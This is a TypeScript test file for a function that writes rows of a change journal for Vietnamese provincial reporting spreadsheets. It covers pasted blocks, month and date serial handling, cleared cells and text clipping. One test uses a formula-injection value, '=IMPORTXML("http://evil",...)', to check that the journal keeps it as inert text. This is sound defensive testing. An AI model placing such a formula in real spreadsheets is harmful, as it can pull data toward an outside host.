// The change journal's row: who, where, and what, every text kept as text; a pasted block by its first cells.
import { journalRow, MAX_CHARS, removedText } from '../../src/core/journal';
import type { Unit } from '../../src/core/model';
import { fromLocal, month } from '../../src/core/periods';
import { JOURNAL_TAB } from '../../src/core/text/period';

const AT = fromLocal(2024, 8, 20, 9, 30);
const where = { at: AT, user: 'canbo@gialai.example', sheet: 'Biểu mẫu 03', a1: 'A5:C6' };

describe('journalRow', () => {
  test('a pasted block: its size and first cells; a date as the sheet shows it in Gia Lai, not in UTC', () => {
    const row = journalRow({ ...where, rows: 2, cols: 3, first: [['Thành phố Pleiku', '07/2024', fromLocal(2024, 8, 5, 7, 15)]] });
    expect(row.slice(1)).toEqual([
      'canbo@gialai.example',
      'Biểu mẫu 03',
      'A5:C6',
      '',
      '2×3 ô: Thành phố Pleiku | 07/2024 | 05/08/2024 07:15',
    ]);
    expect(row[0]).toBe(AT);
  });

  test('a block of several rows: its rows apart, at most MAX_CELLS cells in all', () => {
    const first = [
      ['', 'Huyện Chư Prông', '08/2024', 404, 95, 70],
      ['', 'Huyện Chư Sê', '08/2024', 295, 110, 60],
      ['', 'Huyện Ia Pa', '08/2024', 300, 100, 50],
    ];
    const row = journalRow({ ...where, a1: 'A30:F32', rows: 3, cols: 6, first });
    expect(row[5]).toBe('3×6 ô:  | Huyện Chư Prông | 08/2024 | 404 | 95 | 70 /  | Huyện Chư Sê | 08/2024 | 295 | 110 | 60');
  });

  test('one cell: its old and new values, clipped, and a formula-looking text stays text', () => {
    const long = 'x'.repeat(MAX_CHARS + 50);
    const row = journalRow({ ...where, a1: 'D5', rows: 1, cols: 1, oldValue: long, value: '=IMPORTXML("http://evil","//a")' });
    expect(String(row[4])).toHaveLength(MAX_CHARS);
    expect(String(row[4]).endsWith('…')).toBe(true);
    expect(String(row[5]).startsWith('=')).toBe(false);
    expect(String(row[5])).toContain('IMPORTXML');
  });

  test('a cleared cell and an unknown user say so', () => {
    const row = journalRow({ ...where, user: '', a1: 'D5', rows: 1, cols: 1, oldValue: '12' });
    expect([row[1], row[4], row[5]]).toEqual(['không rõ', '12', '(xóa)']);
  });

  // Apps Script gives a date cell's e.value / e.oldValue as its serial number, a string (days since 30/12/1899 in the
  // spreadsheet's zone: 45444 is 01/06/2024); see the comment on shownEventValue in src/core/journal.ts.
  test('a date typed in Kỳ báo cáo: its month, old and new, not the serial numbers the event gives', () => {
    const row = journalRow({
      ...where,
      a1: 'C18',
      rows: 1,
      cols: 1,
      oldValue: '45444',
      value: '45474',
      cell: fromLocal(2024, 7, 1),
      monthCol: 0,
    });
    expect([row[4], row[5]]).toEqual(['06/2024', '07/2024']);
  });

  test('a cleared Kỳ báo cáo cell: the month it held; a small number there, or a figure elsewhere, stays as typed', () => {
    const cleared = journalRow({ ...where, a1: 'C18', rows: 1, cols: 1, oldValue: '45444', monthCol: 0 });
    expect([cleared[4], cleared[5]]).toEqual(['06/2024', JOURNAL_TAB.cleared]);
    const typed = journalRow({ ...where, a1: 'C18', rows: 1, cols: 1, oldValue: '6', value: '45474', cell: 45474, monthCol: 0 });
    expect([typed[4], typed[5]]).toEqual(['6', '45474']); // the cell holds a number, not a Date: shown as it is
    const figure = journalRow({ ...where, a1: 'D18', rows: 1, cols: 1, oldValue: '45444', value: '404', cell: 404 });
    expect([figure[4], figure[5]]).toEqual(['45444', '404']);
  });

  test('a date in another column: its day and time in Gia Lai, as a pasted block shows it', () => {
    const day = journalRow({ ...where, a1: 'F5', rows: 1, cols: 1, oldValue: '45509.375', value: '45509', cell: fromLocal(2024, 8, 5) });
    expect([day[4], day[5]]).toEqual(['05/08/2024 09:00', '05/08/2024 00:00']);
  });

  test('a pasted block: a date under Kỳ báo cáo as its month', () => {
    const row = journalRow({ ...where, rows: 1, cols: 2, monthCol: 1, first: [['Thành phố Pleiku', fromLocal(2024, 6, 1)]] });
    expect(row[5]).toBe('1×2 ô: Thành phố Pleiku | 06/2024');
  });

  test('a cleared block: (xóa), with the unit and period each row held where the edit knew them', () => {
    const blank = [Array.from({ length: 6 }, () => '')];
    const bare = journalRow({ ...where, a1: 'A18:W18', rows: 1, cols: 23, first: blank, cleared: true });
    expect([bare[4], bare[5]]).toEqual(['', JOURNAL_TAB.cleared]);
    const entry = (r: number, k: string, m: number | null) => ({ r, k, m, t: '', p: '', s: null, ok: true, v: {} });
    const units = [{ code: 'H-622', name: 'Thành phố Pleiku' }] as Unit[];
    // Rows 19 and 18 as the index held them (in its order): a unit typed that is not in the directory, a known one; a
    // row with figures only.
    const removed = removedText([entry(19, '?Xã Ia Băng', null), entry(18, 'H-622', month(2024, 6)), entry(20, '?', null)], units);
    expect(removed).toBe('dòng 18, Thành phố Pleiku, kỳ 06/2024; dòng 19, Xã Ia Băng; dòng 20');
    const known = journalRow({ ...where, a1: 'A18:W20', rows: 3, cols: 23, first: blank, cleared: true, removed });
    expect([known[4], known[5]]).toEqual([removed, JOURNAL_TAB.cleared]);
    const many = removedText(
      Array.from({ length: 30 }, (_, i) => entry(10 + i, 'H-622', month(2024, 6))),
      units,
    );
    const row = journalRow({ ...where, a1: 'A10:W39', rows: 30, cols: 23, cleared: true, removed: many });
    expect(String(row[4]).startsWith('dòng 10, Thành phố Pleiku, kỳ 06/2024; dòng 11, ')).toBe(true);
    expect(String(row[4])).toHaveLength(MAX_CHARS); // clipped, as every value
  });
});
